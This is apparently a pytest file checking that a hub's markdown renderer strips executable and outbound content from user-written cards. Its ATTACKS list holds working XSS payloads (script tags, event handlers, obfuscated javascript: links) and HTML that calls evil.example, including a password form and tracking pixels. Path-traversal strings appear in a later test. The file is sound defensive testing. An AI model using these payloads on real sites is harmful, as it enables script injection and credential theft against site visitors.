"""Cards are strangers' text: nothing in them may run, watch, or leave the page's own box."""

import re
from html.parser import HTMLParser

import pytest

from hub.web.markdown import ATTRIBUTES, TAGS, to_html

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    '![x](data:image/svg+xml,<svg/onload=alert(1)>"onerror="alert(1))',
    '![a"onerror="alert(1)](picture.png)',
    '![x](a.png"onerror="alert(1))',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    "<iframe src=https://evil.example></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<div class='site-header' id='main'>x</div>",
    "<p hx-get='/tokens' hx-trigger=load>x</p>",
    "<button data-text='rm -rf'>x</button>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<details ontoggle=alert(1) open>x</details>",
    "<template><script>alert(1)</script></template>",
    '```js"onload=alert(1)\nx\n```',
    "<code class='language-x evil'>x</code>",
    "<img src='https://evil.example/pixel.png'>",
    "<img src='//evil.example/pixel.png'>",
    "<img src='\\\\evil.example/pixel.png'>",
    "![p](https://evil.example/pixel.png)",
    "<img srcset='https://evil.example/a.png 1x' src=a.png>",
]
ADDRESSES = re.compile(r"(https?:|mailto:|/lab/|#)")


class Reader(HTMLParser):
    """What a browser would see: tags with attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict]] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def file_url(path: str) -> str:
    return f"/lab/sentiment/raw/abc/{path}"


@pytest.mark.parametrize("text", ATTACKS)
def test_nothing_runs_or_calls_out(text):
    html = to_html(text, file_url=file_url)
    for tag, attributes in Reader(html).tags:
        assert tag in TAGS
        for name, value in attributes.items():
            assert name in ATTRIBUTES.get(tag, set()) | {"rel"}, f"{name} on {tag}"
            if name == "src":
                assert value.startswith("/lab/sentiment/raw/")
            if name == "href":
                assert ADDRESSES.match(value), value
            if name == "class":
                assert re.fullmatch(r"language-[\w+#-]+", value)


def test_what_is_useful_stays():
    html = to_html(
        "# A\n\n| a | b |\n|---|---|\n| 1 | ~~2~~ |\n\n```python\nx = '<b>'\n```\n\n"
        "<details><summary>s</summary>d</details>"
    )
    assert "<h1>A</h1>" in html
    assert "<td>1</td>" in html
    assert "<s>2</s>" in html
    assert "<code class=\"language-python\">x = '&lt;b&gt;'" in html
    assert "<summary>s</summary>" in html


def test_front_matter_is_no_text():
    assert to_html("---\nlicense: mit\n---\n# Name").strip() == "<h1>Name</h1>"
    assert "license" in to_html("# Name\n\n---\nlicense: mit\n---\n")


def test_pictures_and_links_of_the_repository_lead_into_it():
    html = to_html("![plot](img/a b.png)\n\n![p](<img/plot.png>) [notes](docs/notes.md) [top](#top)", file_url=file_url)
    assert 'src="/lab/sentiment/raw/abc/img/plot.png"' in html
    assert 'href="/lab/sentiment/raw/abc/docs/notes.md"' in html
    assert 'href="#top"' in html


@pytest.mark.parametrize("path", ["../../jobs/1/cancel", "/sign-out", "..%2f..", "a/../../b"])
def test_a_picture_can_not_leave_the_repository(path):
    tags = Reader(to_html(f"![x]({path})<img src='{path}'>", file_url=lambda p: f"/in/{p}")).tags
    assert all(attributes.get("src", "/in/").startswith("/in/") for tag, attributes in tags if tag == "img")
    assert not any("/../" in attributes.get("src", "") for _, attributes in tags)


def test_pictures_from_elsewhere_become_links():
    html = to_html("![a chart](https://example.org/c.png)", file_url=file_url)
    assert "<img" not in html
    assert '<a href="https://example.org/c.png" rel="nofollow noopener ugc">a chart</a>' in html
